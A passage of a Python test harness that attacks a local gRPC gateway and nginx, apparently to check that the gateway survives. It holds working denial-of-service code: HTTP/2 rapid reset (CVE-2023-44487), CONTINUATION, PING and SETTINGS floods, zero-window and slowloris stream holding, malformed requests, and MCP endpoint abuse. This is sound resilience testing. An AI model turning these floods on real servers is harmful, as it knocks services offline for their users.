        parts = []
        state = self.streams.get(stream_id)
        if state:
            if state.status and state.status != "200":
                parts.append(f"HTTP {state.status}")
            if state.grpc_status is not None:
                text = grpc_code_name(state.grpc_status)
                if state.grpc_message:
                    text += f" ({state.grpc_message[:100]})"
                parts.append(text)
            if state.reset:
                parts.append(f"RST {state.reset}")
        for code, last_stream, data, _ in self.goaways:
            parts.append(f"GOAWAY {code}" + (f" ({data[:60]})" if data else ""))
        if self.closed and self.closed != "closed by the attacker":
            parts.append(self.closed)
        if not parts:
            parts.append("no answer" + (" (headers only)" if state and state.status else ""))
        return "; ".join(parts)


class Received:
    """What the attacker got back over all its connections."""

    def __init__(self):
        self.goaway: Counter = Counter()
        self.rst: Counter = Counter()
        self.grpc: Counter = Counter()
        self.closed: Counter = Counter()
        self.stalled = 0
        self.data_over_window = 0

    def add(self, wire: Wire) -> None:
        self.goaway.update(wire.goaway_codes())
        self.rst.update(wire.rst_counts)
        self.grpc.update(grpc_code_name(s.grpc_status) for s in wire.streams.values() if s.grpc_status is not None)
        if wire.closed and wire.closed != "closed by the attacker":
            self.closed[wire.closed] += 1
        self.stalled += wire.stalled
        self.data_over_window += wire.data_over_window

    def text(self) -> str:
        parts = []
        if self.goaway:
            parts.append("GOAWAY " + counts(self.goaway))
        if self.rst:
            parts.append("RST " + counts(self.rst))
        if self.grpc:
            parts.append("grpc " + counts(self.grpc))
        if self.closed:
            parts.append("socket " + counts(self.closed))
        if self.stalled:
            parts.append(f"write blocked×{self.stalled}")
        if self.data_over_window:
            parts.append(f"{self.data_over_window} DATA bytes past our window")
        return "; ".join(parts) or "nothing"

    def as_json(self) -> dict:
        return {"goaway": dict(self.goaway), "rst_stream": dict(self.rst), "grpc_status": dict(self.grpc),
                "socket_closed": dict(self.closed), "writes_blocked": self.stalled,
                "data_bytes_past_window": self.data_over_window}


def received(*wires: Wire) -> Received:
    result = Received()
    for wire in wires:
        result.add(wire)
    return result


def probe_resolve(port: int, timeout: float = 1.5) -> tuple[bool, str]:
    """One legitimate Resolve on a fresh connection: (succeeded, what happened)."""
    wire = Wire(port)
    try:
        if not wire.handshake(timeout):
            return False, wire.closed or f"no SETTINGS within {timeout} s"
        stream_id = wire.open_request(request_headers(wire.authority, extra=[("grpc-timeout", "2S")]), REQUEST_MESSAGE)
        wire.wait_until(lambda: wire.stream(stream_id).ended, timeout)
        state = wire.stream(stream_id)
        if state.grpc_status == "0" and state.data_bytes > 0:
            return True, "OK"
        return False, wire.describe_stream(stream_id)
    finally:
        wire.close()


# --------------------------------------------------------------------------------------------
# Attacks. Each takes the target's port and the configuration, stays within its time, and returns
# {"summary": what happened in a few words, "received": Received, ...numbers for the JSON}.
# --------------------------------------------------------------------------------------------

REQUEST_MESSAGE = b""  # set in main(): the framed ResolveRequest


def rst_bytes(stream_id: int, code: int) -> bytes:
    return RstStreamFrame(stream_id, error_code=code).serialize()


def attack_rapid_reset(port: int, cfg: Config) -> dict:
    """CVE-2023-44487: 2 connections each open a Resolve stream and reset it at once (CANCEL),
    in batches, until the server closes them or time is up."""
    cap = cfg.cap(20_000, 1_000_000)  # streams per connection
    batch = 50
    wires = [Wire(port) for _ in range(2)]
    for wire in wires:
        wire.handshake()
    sent = [0, 0]
    ended_after = [None, None]
    deadline = time.monotonic() + cfg.duration
    while time.monotonic() < deadline:
        live = [i for i, w in enumerate(wires) if w.usable and sent[i] < cap]
        if not live:
            break
        for i in live:
            wire, out, ends = wires[i], bytearray(), []
            for _ in range(min(batch, cap - sent[i])):
                stream_id = wire.new_stream_id()
                out += wire.headers_bytes(stream_id, request_headers(wire.authority)) + rst_bytes(stream_id, 8)
                ends.append(len(out))
            written = wire.send(out, timeout=max(0.01, min(1.0, deadline - time.monotonic())))
            sent[i] += bisect.bisect_right(ends, written)
            wire.pump(0)
            if not wire.usable and ended_after[i] is None:
                ended_after[i] = sent[i]
    for wire in wires:
        wire.drain(0.5)
    elapsed = cfg.duration - max(0.0, deadline - time.monotonic())
    total = sum(sent)
    fates = []
    for i, wire in enumerate(wires):
        if wire.goaways:
            fates.append(f"conn {i + 1} GOAWAY after {ended_after[i] or sent[i]}")
        elif wire.closed:
            fates.append(f"conn {i + 1} closed after {ended_after[i] or sent[i]}")
        elif wire.stalled:
            fates.append(f"conn {i + 1} write blocked after {sent[i]}")
    summary = f"{total} streams opened+reset ({total / max(elapsed, 0.001):.0f}/s)"
    if fates:
        summary += "; " + ", ".join(fates)
    else:
        summary += "; both connections still open"
    return {"summary": summary, "received": received(*wires), "streams_sent": total}


def attack_bad_headers_collateral(port: int, cfg: Config) -> dict:
    """6 legitimate clients (the "collateral" group) make back-to-back Resolve calls, each on its
    own connection, while a bad client sends three requests with bad headers, each on a fresh
    connection: a 17 KB header, an uppercase header name, a `connection: keep-alive` header. What
    matters is whether the legitimate calls sharing the target (and its upstream) fail."""
    warmup = max(0.3, cfg.duration * 0.2)
    deadline = time.monotonic() + cfg.duration
    time.sleep(warmup)
    cases = [
        ("17 KB header", [("x-padding", "a" * 17 * 1024)]),  # not Huffman-coded: 17 KB on the wire
        ("uppercase name", [("X-Uppercase", "1")]),
        ("connection: keep-alive", [("connection", "keep-alive")]),
    ]
    gap = max(0.1, (deadline - time.monotonic()) / (len(cases) + 1))
    outcomes, wires = [], []
    for name, extra in cases:
        started = time.monotonic()
        wire = Wire(port)
        wires.append(wire)
        wire.handshake(1.0)
        stream_id = wire.open_request(request_headers(wire.authority, extra=extra), REQUEST_MESSAGE, huffman=False)
        wire.wait_until(lambda: wire.stream(stream_id).ended, min(1.0, gap))
        outcomes.append(f"{name}: {wire.describe_stream(stream_id)}")
        wire.close()
        time.sleep(max(0.0, min(gap - (time.monotonic() - started), deadline - time.monotonic())))
    time.sleep(max(0.0, deadline - time.monotonic()))
    return {"summary": "; ".join(outcomes), "received": received(*wires), "cases": outcomes}


def attack_malformed(port: int, cfg: Config) -> dict:
    """One malformed request each, on a fresh connection; what each gets back."""
    message = REQUEST_MESSAGE

    def huge_length(wire: Wire) -> int:  # 4 GiB announced, 1 KiB sent, stream left open
        return wire.open_request(request_headers(wire.authority), grpc_message(b"\0" * 1024, length=0xFFFFFFFF), end_stream=False)

    def compressed(wire: Wire) -> int:  # compressed flag 1, no grpc-encoding
        return wire.open_request(request_headers(wire.authority), b"\x01" + message[1:])

    def pseudo_after_regular(wire: Wire) -> int:  # with the token, so a lenient proxy's pass is answered
        headers = [(":method", "POST"), (":scheme", "http"), ("content-type", "application/grpc"),
                   (":path", RESOLVE_PATH), (":authority", wire.authority), ("te", "trailers"), bearer()]
        return wire.open_request(headers, message)

    def duplicate_path(wire: Wire) -> int:  # a second :path, naming another method
        return wire.open_request(request_headers(wire.authority) + [(":path", "/intentmesh.v1.IntentsExtension/Handle")], message)

    def path_with(char: str) -> Callable[[Wire], int]:
        return lambda wire: wire.open_request(request_headers(wire.authority, path=RESOLVE_PATH + char + "x"), message)

    cases = [
        ("length 0xFFFFFFFF", huge_length), ("compressed, no grpc-encoding", compressed),
        ("pseudo-header after regular", pseudo_after_regular), ("duplicate :path", duplicate_path),
        ("CR in :path", path_with("\r")), ("LF in :path", path_with("\n")), ("NUL in :path", path_with("\0")),
    ]
    outcomes, wires, results = [], [], {}
    for name, send in cases:
        wire = Wire(port)
        wires.append(wire)
        wire.handshake(1.0)
        stream_id = send(wire)
        wire.wait_until(lambda: wire.stream(stream_id).ended or bool(wire.goaways), cfg.answer_wait)
        results[name] = wire.describe_stream(stream_id)
        outcomes.append(f"{name}: {results[name]}")
        wire.close()
    return {"summary": "; ".join(outcomes), "received": received(*wires), "cases": results}


def attack_continuation_flood(port: int, cfg: Config) -> dict:
    """HEADERS without END_HEADERS, then zero-length CONTINUATION frames, 1,000 a write, until
    the server closes the connection (or sends GOAWAY), stops reading, or time is up."""
    cap = cfg.cap(500_000, 20_000_000)
    wire = Wire(port)
    wire.handshake()
    stream_id = wire.new_stream_id()
    wire.send(wire.headers_bytes(stream_id, request_headers(wire.authority), end_headers=False))
    frame = ContinuationFrame(stream_id).serialize()
    batch = frame * 1000
    sent = 0
    deadline = time.monotonic() + cfg.duration
    while wire.usable and sent < cap and time.monotonic() < deadline:
        written = wire.send(batch, timeout=max(0.01, min(1.0, deadline - time.monotonic())))
        sent += written // len(frame)
        wire.pump(0)
    stop = "GOAWAY" if wire.goaways else "closed" if wire.closed else "write blocked" if wire.stalled else (
        "count cap" if sent >= cap else "time up")
    wire.drain(0.5)
    wire.close()
    return {"summary": f"{sent} empty CONTINUATION frames sent; stopped: {stop}", "received": received(wire),
            "frames_sent": sent}


def open_streams(wire: Wire, count: int, body: bytes, end_stream: bool, deadline: float) -> int:
    """Opens up to `count` streams, each HEADERS + one DATA frame carrying `body` (within the
    server's flow-control windows and concurrency limit); returns how many went out."""
    if wire.max_concurrent_streams is not None:
        count = min(count, wire.max_concurrent_streams)
    opened = 0
    while opened < count and wire.usable and time.monotonic() < deadline:
        out = bytearray()
        for _ in range(min(50, count - opened)):
            if wire.send_conn_window < len(body) or wire.peer_initial_window < len(body):
                break
            stream_id = wire.new_stream_id()
            out += wire.headers_bytes(stream_id, request_headers(wire.authority))
            out += wire.data_bytes(stream_id, body, end_stream)
            opened += 1
        if out:
            wire.send(out, timeout=max(0.01, deadline - time.monotonic()))
            wire.pump(0)
        else:  # no window left: wait for the server to grant some
            wire.pump(0.05)
    return opened


def streams_report(wires: list[Wire]) -> tuple[str, dict]:
    """How the attacker's streams ended: answered (a gRPC status, or an HTTP error status, even if
    RST_STREAM followed), reset without an answer (by code), lost with their connection (GOAWAY or
    closed), or still open when the attack ended."""
    answered, reset = Counter(), Counter()
    lost = still_open = with_headers = 0
    ends = []
    for wire in wires:
        connection_ended = bool(wire.closed and wire.closed != "closed by the attacker") or bool(wire.goaways)
        for stream_id in wire.send_windows:  # every stream the attacker opened
            state = wire.streams.get(stream_id) or StreamState()
            if state.ended_at is not None:
                ends.append(state.ended_at)
            if state.grpc_status is not None:
                answered[grpc_code_name(state.grpc_status)] += 1
            elif state.status and state.status != "200":
                answered[f"HTTP {state.status}"] += 1
            elif state.reset:
                reset[state.reset] += 1
            elif connection_ended:
                lost += 1
            else:
                still_open += 1
                with_headers += state.status is not None
    opened = sum(len(w.send_windows) for w in wires)
    parts = [f"{opened} streams: {sum(answered.values())} answered" + (f" ({counts(answered)})" if answered else "")]
    parts.append(f"{sum(reset.values())} reset" + (f" ({counts(reset)})" if reset else ""))
    if lost:
        parts.append(f"{lost} ended with their connection")
    parts.append(f"{still_open} still open" + (f" ({with_headers} with response headers)" if with_headers else ""))
    text = ", ".join(parts)
    if ends:
        text += f"; first ended at {min(ends):.1f} s, last at {max(ends):.1f} s"
    return text, {"streams_opened": opened, "answered": dict(answered), "reset": dict(reset),
                  "ended_with_connection": lost, "still_open": still_open}


def attack_zero_window(port: int, cfg: Config, connections: int = 1, streams: int | None = None) -> dict:
    """Connections with SETTINGS_INITIAL_WINDOW_SIZE=0 open valid Resolve requests and never grant
    the window the responses need; held until the time is up."""
    streams = streams or cfg.cap(100, 300)
    deadline = time.monotonic() + cfg.hold
    wires = [Wire(port, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}, grant_window=False) for _ in range(connections)]
    for wire in wires:
        wire.handshake()
    open_by = time.monotonic() + cfg.hold / 2
    for wire in wires:
        open_streams(wire, streams, REQUEST_MESSAGE, True, open_by)
    while time.monotonic() < deadline and any(not w.closed for w in wires):
        for wire in wires:
            wire.pump(0.05 / connections)
    text, numbers = streams_report(wires)
    for wire in wires:
        wire.close()
    return {"summary": f"{connections} conn × {streams}: {text}", "received": received(*wires), **numbers}


def attack_zero_window_many(port: int, cfg: Config) -> dict:
    return attack_zero_window(port, cfg, connections=4, streams=900)


def padded_resolve(size: int) -> bytes:
    """A Resolve request (the usual one) of `size` bytes in all: the rest an unknown
    length-delimited field (15), which a server keeps and skips."""
    base = resolve_request().SerializeToString()
    def varint(value: int) -> bytes:
        out = bytearray()
        while True:
            out.append((value & 0x7F) | (0x80 if value > 0x7F else 0))
            value >>= 7
            if not value:
                return bytes(out)
    padding = size - len(base) - 1
    while len(base) + 1 + len(varint(padding)) + padding > size:
        padding -= 1
    return base + bytes([15 << 3 | 2]) + varint(padding) + b"\0" * padding


def attack_unread_bodies(port: int, cfg: Config) -> dict:
    """One connection that never reads an answer (SETTINGS_INITIAL_WINDOW_SIZE=0, no WINDOW_UPDATE
    for what comes) sends complete 4 MiB Resolve requests (just under the default message limit)
    on 60 streams (10 in the short run), as fast as the server's windows let it; held until the
    time is up. What the server takes in is what it holds until the domain has read it, and every
    answer waits for a window that never opens."""
    streams = cfg.cap(10, 60)
    body = grpc_message(padded_resolve(4 * 1024 * 1024 - 1024))
    deadline = time.monotonic() + cfg.hold
    wire = Wire(port, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}, grant_window=False)
    wire.handshake()
    limit = wire.max_concurrent_streams
    count = min(streams, limit) if limit is not None else streams
    remaining: dict[int, int] = {}
    for _ in range(count):
        stream_id = wire.new_stream_id()
        wire.send(wire.headers_bytes(stream_id, request_headers(wire.authority)))
        remaining[stream_id] = 0
    wire.pump(0.05)
    piece = 64 * 1024
    while wire.usable and time.monotonic() < deadline and any(sent < len(body) for sent in remaining.values()):
        out = bytearray()
        for stream_id, sent in remaining.items():
            size = min(piece, len(body) - sent, wire.window(stream_id))
            if size <= 0:
                continue
            out += wire.data_bytes(stream_id, body[sent:sent + size], end_stream=sent + size == len(body))
            remaining[stream_id] = sent + size
        if out:
            wire.send(out, timeout=max(0.01, deadline - time.monotonic()))
            wire.pump(0)
        else:  # every window spent: wait for the server to grant more
            wire.pump(0.05)
    # Whole: every byte framed, and the socket took them all (a write cut short stalls the wire).
    complete = sum(1 for sent in remaining.values() if sent == len(body)) if not wire.broken else 0
    while wire.usable and time.monotonic() < deadline:
        wire.pump(0.1)
    text, numbers = streams_report([wire])
    written_mib = wire.bytes_sent / (1 << 20)  # what the socket took, frame headers included
    wire.close()
    summary = f"1 conn × {count} bodies of 4 MiB: {complete} sent whole ({written_mib:.0f} MiB written); {text}"
    return {"summary": summary, "received": received(wire), "bodies_complete": complete, **numbers}


def attack_slowloris(port: int, cfg: Config) -> dict:
    """One connection, 100 streams, each sending a first message announced as 4,000,000 bytes in
    8 KiB pieces every 0.25 s (within the server's windows), never finishing it."""
    announced, piece, interval = 4_000_000, 8 * 1024, 0.25
    deadline = time.monotonic() + cfg.hold
    wire = Wire(port)
    wire.handshake()
    first = grpc_message(b"\0" * piece, length=announced)
    count = open_streams(wire, 100, first, False, deadline)
    sent = {stream_id: len(first) - 5 for stream_id in wire.send_windows}
    window_limited = 0
    next_round = time.monotonic() + interval
    while wire.usable and time.monotonic() < deadline:
        if time.monotonic() >= next_round:  # one piece per stream per round, rounds `interval` apart
            next_round += interval
            out = bytearray()
            for stream_id in sent:
                state = wire.streams.get(stream_id)
                if state and state.ended:
                    continue
                window = wire.window(stream_id)
                if window < piece:
                    window_limited += 1
                size = min(piece, announced - sent[stream_id], window)
                if size > 0:
                    out += wire.data_bytes(stream_id, b"\0" * size)
                    sent[stream_id] += size
            if out:
                wire.send(out, timeout=max(0.01, deadline - time.monotonic()))
        wire.pump(max(0.0, min(next_round, deadline) - time.monotonic()))
    wire.pump(0.1)
    text, numbers = streams_report([wire])
    total = sum(sent.values())
    wire.close()
    summary = f"{count} streams, {total / 1e6:.1f} MB sent ({window_limited} pieces held back by flow control); {text}"
    return {"summary": summary, "received": received(wire), "bytes_sent": total, **numbers}


def attack_incomplete_calls(port: int, cfg: Config) -> dict:
    """Many connections × many streams, each with a partial first message (a prefix announcing 100
    bytes, then 10 bytes) and no END_STREAM; then waits to see whether the server ends them."""
    connections, streams = cfg.cap(10, 50), cfg.cap(100, 1000)
    deadline = time.monotonic() + cfg.hold
    open_by = time.monotonic() + cfg.hold * 0.6
    body = grpc_message(b"\0" * 10, length=100)
    wires = []
    for _ in range(connections):
        if time.monotonic() >= open_by:
            break
        wire = Wire(port)
        wires.append(wire)
        wire.handshake(1.0)
        open_streams(wire, streams, body, False, open_by)
    while time.monotonic() < deadline and any(not w.closed for w in wires):
        socks = {w.sock: w for w in wires if not w.closed and w.sock}
        try:
            readable, _, _ = select.select(list(socks), [], [], max(0.0, min(0.1, deadline - time.monotonic())))
        except (OSError, ValueError):
            break
        for sock in readable:
            socks[sock].pump(0)
    text, numbers = streams_report(wires)
    goaway = sum(1 for w in wires if w.goaways)
    for wire in wires:
        wire.close()
    summary = f"{len(wires)} conn: {text}" + (f"; {goaway} conn got GOAWAY" if goaway else "")
    return {"summary": summary, "received": received(*wires), **numbers}


def control_flood(port: int, cfg: Config, frame: bytes, acked: Callable[[Wire], int]) -> dict:
    """Sends `frame` 1,000 times a write as fast as the socket takes them, never reading, until
    the cap, the time, or the server stops reading; then reads what came back."""
    cap = cfg.cap(200_000, 5_000_000)
    wire = Wire(port)
    wire.handshake()
    wire.drain(0.2)  # the server's SETTINGS ACK and window updates: from here on nothing is read
    batch = frame * 1000
    sent = 0
    deadline = time.monotonic() + cfg.duration
    while not (wire.closed or wire.stalled or wire.broken) and sent < cap and time.monotonic() < deadline:
        written = wire.send(batch, timeout=max(0.01, deadline - time.monotonic()))
        sent += written // len(frame)
    stop = "closed" if wire.closed else "write blocked (server stopped reading)" if wire.stalled else (
        "count cap" if sent >= cap else "time up")
    wire.drain(cfg.answer_wait * 2, quiet=0.5)
    wire.close()
    summary = f"{sent} frames sent unread; stopped: {stop}; {acked(wire)} ACKs read afterwards"
    return {"summary": summary, "received": received(wire), "frames_sent": sent}


def attack_ping_flood(port: int, cfg: Config) -> dict:
    """PING frames as fast as possible, never reading their ACKs."""
    return control_flood(port, cfg, PingFrame(0, opaque_data=b"attack!!").serialize(), lambda w: w.pings_acked)


def attack_settings_flood(port: int, cfg: Config) -> dict:
    """Empty SETTINGS frames as fast as possible, never reading their ACKs."""
    return control_flood(port, cfg, SettingsFrame(0).serialize(), lambda w: w.settings_acked)


def attack_none(port: int, cfg: Config) -> dict:
    """No attack: the legitimate client alone, for the unloaded latency the others are read against."""
    time.sleep(cfg.duration)
    return {"summary": "no attack: the legitimate client alone (unloaded latency)", "received": Received()}


MCP_INITIALIZE = json.dumps({
    "jsonrpc": "2.0", "id": 1, "method": "initialize",
    "params": {"protocolVersion": "2025-11-25", "capabilities": {"elicitation": {}},
               "clientInfo": {"name": "attack", "version": "1"}}}).encode()


def mcp_post(port: int, body: bytes, session: str | None = None, announce: int | None = None,
             timeout: float = 5.0) -> tuple[int, dict[str, str], bytes]:
    """One HTTP/1.1 POST to /mcp with Diana's token on a fresh connection: (status, headers,
    body); status 0 when the connection failed or closed without an answer. `announce`: the
    content-length said (more than is sent: the server must not wait for the rest)."""
    name, value = bearer()
    head = [f"POST /mcp HTTP/1.1", f"host: 127.0.0.1:{port}", "content-type: application/json",
            "accept: application/json, text/event-stream", f"{name}: {value}",
            f"content-length: {announce if announce is not None else len(body)}", "connection: close"]
    if session:
        head.append(f"mcp-session-id: {session}")
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=timeout) as sock:
            sock.sendall(("\r\n".join(head) + "\r\n\r\n").encode())
            try:
                sock.sendall(body)
            except OSError:
                pass  # refused before the whole body was taken: the answer says why
            data = b""
            while b"\r\n\r\n" not in data:
                chunk = sock.recv(65536)
                if not chunk:
                    return 0, {}, b""
                data += chunk
            top, _, rest = data.partition(b"\r\n\r\n")
            lines = top.decode("latin-1").split("\r\n")
            headers = {k.strip().lower(): v.strip() for k, _, v in (line.partition(":") for line in lines[1:])}
            return int(lines[0].split()[1]), headers, rest
    except OSError:
        return 0, {}, b""


def attack_mcp(port: int, cfg: Config) -> dict:
    """The MCP endpoint (/mcp, HTTP/1.1), with a valid token: many sessions (initialize after
    initialize: the user's and the total bounds must hold them), oversized bodies (8 MiB announced,
    1 MiB sent), malformed JSON-RPC, and tool calls that ask the user's yes and are never answered
    (each waits for an answer that never comes: the per-session bound must hold them), from 4
    threads until the time is up."""
    deadline = time.monotonic() + cfg.duration
    statuses: Counter = Counter()
    lock = threading.Lock()
    session_holder: list[str] = []
    pay = json.dumps({"jsonrpc": "2.0", "id": 9, "method": "tools/call", "params": {
        "name": "UnicornChat_SendMessage", "arguments": {
            "recipients": [{"displayName": "Sparkle Sparkly"}], "content": "never confirmed"}}}).encode()
    malformed = [b"{", b"[]", b'{"jsonrpc":"2.0","id":{},"method":"x"}', b'{"jsonrpc":"2.0","method":' + b"[" * 5000,
                 b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":"x"}', b"\xff\xfe" * 100]

    def note(kind: str, status: int) -> None:
        with lock:
            statuses[f"{kind} {status}"] += 1

    def sessions() -> None:
        while time.monotonic() < deadline:
            status, headers, _ = mcp_post(port, MCP_INITIALIZE)
            note("initialize", status)
            if status == 200 and not session_holder:
                session_holder.append(headers.get("mcp-session-id", ""))

    def oversized() -> None:
        while time.monotonic() < deadline:
            note("8 MiB body", mcp_post(port, b"x" * (1 << 20), announce=8 << 20)[0])
            for body in malformed:
                note("malformed", mcp_post(port, body)[0])

    def unanswered() -> None:
        held = []
        while time.monotonic() < deadline and len(held) < cfg.cap(20, 200):
            status, headers, _ = mcp_post(port, MCP_INITIALIZE)
            if status != 200:
                continue
            session = headers.get("mcp-session-id", "")
            name, value = bearer()
            try:
                sock = socket.create_connection(("127.0.0.1", port), timeout=5)
                head = (f"POST /mcp HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\n"
                        f"{name}: {value}\r\nmcp-session-id: {session}\r\ncontent-length: {len(pay)}\r\n\r\n")
                sock.sendall(head.encode() + pay)
                held.append(sock)
                note("tools/call left unanswered", 0)
            except OSError:
                note("tools/call left unanswered", -1)
        while time.monotonic() < deadline:
            time.sleep(0.1)
        for sock in held:
            sock.close()

    workers = [threading.Thread(target=target, daemon=True) for target in (sessions, sessions, oversized, unanswered)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join(cfg.duration + 10)
    summary = "; ".join(f"{key}×{count}" for key, count in sorted(statuses.items()))
    return {"summary": summary or "nothing answered", "received": Received()}


@dataclass
class Attack:
    name: str
    run: Callable[[int, Config], dict]
    full_only: bool = False
    held: bool = False  # runs HOLD seconds (streams held open), not DURATION
    extra_legit: list[LegitGroup] = field(default_factory=list)


ATTACKS = [
    Attack("none", attack_none),
    Attack("rapid-reset", attack_rapid_reset),
    Attack("bad-headers-collateral", attack_bad_headers_collateral,
           extra_legit=[LegitGroup("collateral", clients=6, interval=0.002)]),
    Attack("malformed", attack_malformed),
    Attack("continuation-flood", attack_continuation_flood),
    Attack("zero-window", attack_zero_window, held=True),
    Attack("zero-window-4x900", attack_zero_window_many, full_only=True, held=True),
    Attack("unread-bodies", attack_unread_bodies, held=True),
    Attack("slowloris-with-data", attack_slowloris, held=True),
    Attack("incomplete-calls", attack_incomplete_calls, held=True),
    Attack("ping-flood", attack_ping_flood),
    Attack("settings-flood", attack_settings_flood),
    Attack("mcp", attack_mcp),
]


# --------------------------------------------------------------------------------------------
# Measuring one attack on one target
# --------------------------------------------------------------------------------------------

def check_alive(stack: Stack, timeout: float = 3.0) -> tuple[bool, str]:
    """Alive: the target's process runs and a legitimate Resolve through it succeeds (tried until
    `timeout`)."""
    if not stack.front.running():
        return False, f"dead ({stack.front.exit_description()})"
    deadline = time.monotonic() + timeout
    detail = ""
    while time.monotonic() < deadline:
        ok, detail = probe_resolve(stack.port)
        if ok:
            return True, "yes"
        if not stack.front.running():
            return False, f"dead ({stack.front.exit_description()})"
        time.sleep(0.2)
    text = f"unresponsive ({detail})"
    if stack.upstream and not stack.upstream.running():
        text += f"; upstream dead ({stack.upstream.exit_description()})"
    return False, text


def mib(kib: float | None) -> float | None:
    return None if kib is None else round(kib / 1024, 1)


def measure(attack: Attack, target: str, cfg: Config, stacks: Stacks, legit: LegitClients) -> dict:
    row: dict = {"attack": attack.name, "target": target}
    try:
        stack = stacks.start(target)
    except StartError as error:
        print(f"attack: {target} did not start: {error}", file=sys.stderr)
        row.update(alive=False, alive_text="did not start", summary=str(error).splitlines()[0])
        return row
    try:
        groups = {"target": stack.front.pids}
        if stack.upstream:
            groups["upstream"] = stack.upstream.pids
        latency = LegitGroup("latency", clients=1, interval=0.02)
        window = max(cfg.duration, cfg.hold) + 30  # the worker's own bound, should stop be lost
        ready = legit.start(stack.port, [latency, *attack.extra_legit], max_seconds=window)
        sampler = Sampler(groups)  # the first sample: "before"
        sampler.start()
        started = time.monotonic()
        try:
            result = attack.run(stack.port, cfg)
        except Exception as error:  # noqa: BLE001 - an attacker bug is reported, not fatal
            traceback.print_exc()
            result = {"summary": f"attacker error: {error!r}", "received": Received()}
        row["attack_seconds"] = round(time.monotonic() - started, 2)
        # An attack the server ended early is measured over its whole slot all the same: the
        # legitimate calls and CPU time then cover the aftermath, comparably across targets.
        time.sleep(max(0.0, started + (cfg.hold if attack.held else cfg.duration) - time.monotonic()))
        legit_groups = legit.stop()
        sampler.finish()
        alive, alive_text = check_alive(stack)

        row.update(alive=alive, alive_text=alive_text, legit_ready=ready)
        row["rss_before_mib"] = mib(sampler.first_rss.get("target"))
        row["rss_peak_mib"] = mib(sampler.peak["target"])
        row["cpu_seconds"] = round(sampler.cpu("target"), 2)
        if stack.upstream:
            row["upstream_rss_before_mib"] = mib(sampler.first_rss.get("upstream"))
            row["upstream_rss_peak_mib"] = mib(sampler.peak["upstream"])
            row["upstream_cpu_seconds"] = round(sampler.cpu("upstream"), 2)
            row["upstream_alive"] = stack.upstream.running()
        row["rss_samples"] = sampler.samples
        received_by_attacker: Received = result.pop("received")
        row["received"] = received_by_attacker.as_json()
        row["received_text"] = received_by_attacker.text()
        row["summary"] = result.pop("summary")
        row["details"] = result
        for name, group in legit_groups.items():
            lat = group["latencies_ms"]
            row[f"legit_{name}"] = {
                "calls": group["calls"], "failed": sum(group["failures"].values()),
                "failures": group["failures"], "examples": group["examples"],
                "p50_ms": percentile(lat, 0.5), "p99_ms": percentile(lat, 0.99),
            }
        collateral = row.get("legit_collateral")
        if collateral:
            text = f"{collateral['calls']} calls by 6 clients, {collateral['failed']} failed"
            if collateral["failures"]:
                text += f" ({counts(Counter(collateral['failures']))})"
            row["summary"] = f"collateral: {text}. Bad client: {row['summary']}"
        notes = []
        if target == "nginx" and sampler.processes_seen("target") > 2:
            notes.append("nginx worker restarted")
        if stack.upstream and not stack.upstream.running():
            notes.append(f"upstream {stack.upstream.exit_description()}")
        if not stack.front.running():
            notes.append(f"log: {stack.front.log_tail(3)!r}")
        if not ready:
            notes.append("legit client not ready before the attack")
        if notes:
            row["summary"] += " [" + "; ".join(notes) + "]"
        return row
    finally:
        stack.stop()


# --------------------------------------------------------------------------------------------
# Report
# --------------------------------------------------------------------------------------------

def cell(value, fmt: str = "{:.1f}") -> str:
    return "–" if value is None else fmt.format(value)


def markdown_table(rows: list[dict]) -> str:
    header = ("| attack | target | alive after | RSS MiB before → peak | upstream RSS MiB peak | CPU s "
              "| upstream CPU s | attacker received | legit p50 / p99 ms | legit failed / calls | what happened |")
    lines = [header, "|" + "---|" * (header.count("|") - 1)]
    for row in rows:
        latency = row.get("legit_latency") or {}
        failed = "–"
        if latency:
            failed = f"{latency['failed']} / {latency['calls']}"
            if latency["failures"]:
                failed += f" ({counts(Counter(latency['failures']))})"
        rss = f"{cell(row.get('rss_before_mib'))} → {cell(row.get('rss_peak_mib'))}"
        text = row.get("summary", "").replace("|", "\\|").replace("\n", " ")
        lines.append(
            f"| {row['attack']} | {row['target']} | {row.get('alive_text', '–')} | {rss} "
            f"| {cell(row.get('upstream_rss_peak_mib'))} | {cell(row.get('cpu_seconds'), '{:.2f}')} "
            f"| {cell(row.get('upstream_cpu_seconds'), '{:.2f}')} | {row.get('received_text', '–').replace('|', '/')} "
            f"| {cell(latency.get('p50_ms'))} / {cell(latency.get('p99_ms'))} | {failed} | {text} |")
    return "\n".join(lines)


def verdict(rows: list[dict], cfg: Config) -> tuple[int, str]:
    """The regression check: the gateway target alive after every attack, its RSS under the limit."""
    problems = []
    peak = 0.0
    for row in rows:
        if row["target"] != "gateway":
            continue
        if not row.get("alive"):
            problems.append(f"not alive after {row['attack']}: {row.get('alive_text')}")
        rss = row.get("rss_peak_mib") or 0.0
        peak = max(peak, rss)
        if rss > cfg.rss_limit_mib:
            problems.append(f"RSS peak {rss:.1f} MiB > RSS_LIMIT_MIB={cfg.rss_limit_mib:g} in {row['attack']}")
    if not any(row["target"] == "gateway" for row in rows):
        return 0, "attack: gateway not attacked (TARGETS); nothing judged"
    # Reported, not judged (a shared machine's noise): legitimate p99 under each attack against
    # the unloaded row's.
    quiet = next((r for r in rows if r["target"] == "gateway" and r["attack"] == "none"), None)
    quiet_p99 = (quiet or {}).get("legit_latency", {}).get("p99_ms")
    if quiet_p99:
        above = [f"{r['attack']} {r['legit_latency']['p99_ms']:.1f} ms" for r in rows
                 if r["target"] == "gateway" and r["attack"] != "none"
                 and (r.get("legit_latency", {}).get("p99_ms") or 0) > 2 * quiet_p99]
        print(f"attack: gateway legitimate p99 unloaded {quiet_p99:.1f} ms; above 2x under: "
              f"{', '.join(above) if above else 'no attack'}", file=sys.stderr)
    if problems:
        return 1, "attack: FAIL gateway: " + "; ".join(problems)
    return 0, (f"attack: PASS gateway: alive after every attack, RSS peak {peak:.1f} MiB "
               f"<= RSS_LIMIT_MIB={cfg.rss_limit_mib:g}")


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--bin", help="directory with the gateway and messaging-service executables")
    parser.add_argument("--bin-source", help="where the binaries were copied from (for the report)")
    parser.add_argument("--work", required=True, help="a directory for logs, stores and pid files")
